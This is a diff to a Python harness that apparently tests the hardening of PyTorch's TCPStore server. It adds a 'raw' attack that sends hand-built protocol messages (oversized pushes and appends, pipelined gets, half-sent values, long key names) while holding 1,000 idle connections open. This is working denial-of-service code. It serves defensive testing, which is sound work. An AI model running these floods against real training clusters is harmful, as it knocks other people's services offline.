@@ -26,13 +26,16 @@ import json
 import os
 import pathlib
 import pickle
+import resource
 import signal
+import socket
+import struct
 import sys
 import time
 from collections.abc import Callable, Iterator
 from typing import Any, Optional, Union
 
-ATTACKS = ("list", "forge", "pickle", "delete", "flood")
+ATTACKS = ("list", "forge", "pickle", "delete", "flood", "raw")
 """The attacks in the order ``all`` runs them."""
 
 CONTROL_NAMES = (
@@ -421,6 +424,77 @@ def attack_flood(outsider: Outsider, seconds: float, max_bytes: int) -> None:
         outsider.report.target("flood", key if not key.startswith("outsider/flood/") else "outsider/flood/*")
 
 
+def _u64(value: int) -> bytes:
+    return struct.pack("<Q", value)
+
+
+def _wire_set(key: bytes, size: int) -> bytes:
+    """A TCPStore ``set`` header announcing a ``size``-byte value (torch's wire: command 1, u64-sized key)."""
+    return b"\x01" + _u64(len(key)) + key + _u64(size)
+
+
+RAW_REQUESTS = {
+    # what each row of the table sent, as torch's client would have (queue_push 14, append 9, get 3)
+    "queue": lambda: b"".join(
+        b"\x0e" + _u64(1) + b"q" + _u64(FLOOD_VALUE_BYTES) + bytes(FLOOD_VALUE_BYTES) for _ in range(2)
+    ),
+    "pipelined-get": lambda: b"".join(b"\x03" + _u64(1) + b"k" for _ in range(48)),
+    "half-sent": lambda: _wire_set(b"h", FLOOD_VALUE_BYTES) + bytes(FLOOD_VALUE_BYTES - 1),
+    "key-names": lambda: b"".join(_wire_set(os.urandom(4095).hex().encode()[:8191], 0) for _ in range(64)),
+    "append": lambda: b"\x09" + _u64(1) + b"a" + _u64(FLOOD_VALUE_BYTES) + bytes(FLOOD_VALUE_BYTES),
+}
+
+
+def attack_raw(outsider: Outsider, seconds: float, hold: int) -> None:
+    """Without a TCPStore client: hold ``hold`` idle connections to the port, and meanwhile send each abuse of the
+    table raw, on fresh connections, without reading (what a stranger does to torch's server). Counts how many bytes
+    went out before the port closed each connection."""
+    held: list[socket.socket] = []
+    for _ in range(hold):
+        try:
+            held.append(socket.create_connection((outsider.host, outsider.port), timeout=2))
+            outsider.report.ops["held"] += 1
+        except OSError as exc:
+            outsider.report.error("hold", exc)
+    payloads = {name: make() for name, make in RAW_REQUESTS.items()}
+    for _ in deadline_loop(outsider, seconds):
+        for name, payload in payloads.items():
+            try:
+                sock = socket.create_connection((outsider.host, outsider.port), timeout=2)
+            except OSError as exc:
+                outsider.report.error(name, exc)
+                continue
+            try:
+                sent = sock.send(payload[: 4 * 1024 * 1024])  # what the port takes without a pause
+                outsider.report.bytes_sent += sent
+                outsider.report.ops[name] += 1
+                sock.settimeout(3.0)
+                while sock.recv(65536):  # the greeting, then the close
+                    pass
+                outsider.report.ops[f"{name}-closed"] += 1
+            except OSError as exc:
+                outsider.report.ops[f"{name}-closed"] += isinstance(exc, (ConnectionResetError, BrokenPipeError))
+                outsider.report.error(name, exc)
+            finally:
+                sock.close()
+    outsider.report.ops["held_at_end"] = sum(1 for sock in held if _still_open(sock))
+    for sock in held:
+        sock.close()
+
+
+def _still_open(sock: socket.socket) -> bool:
+    """Whether the other side has not closed ``sock`` (what it sent before, the greeting, is read and dropped)."""
+    sock.setblocking(False)
+    try:
+        while sock.recv(65536):
+            pass
+        return False
+    except BlockingIOError:
+        return True
+    except OSError:
+        return False
+
+
 def run(outsider: Outsider, attack: str, seconds: float, marker: str, max_bytes: int) -> None:
     attacks = ATTACKS if attack == "all" else tuple(attack.split(","))
     for name in attacks:
@@ -435,6 +509,8 @@ def run(outsider: Outsider, attack: str, seconds: float, marker: str, max_bytes:
                 attack_pickle(outsider, seconds, marker)
             elif name == "delete":
                 attack_delete(outsider, seconds)
+            elif name == "raw":
+                attack_raw(outsider, seconds, hold=1000)
             else:
                 attack_flood(outsider, seconds, max_bytes)
         except TimeUp:
@@ -512,7 +588,10 @@ def main(argv: Optional[list[str]] = None) -> int:
             args.host, args.port = host.strip("[]"), int(port)
     report = Report(address=args.address, attack=args.attack)
     outsider = Outsider(args.host, args.port, report)
-    outsider.call("check", ["outsider/connect"])  # connect before the clock starts
+    if args.attack != "raw":
+        outsider.call("check", ["outsider/connect"])  # connect before the clock starts
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (min(max(soft, 4096), hard), hard))  # the raw attack holds 1,000
     report.started_at = time.time()
     start = time.monotonic()
     try:
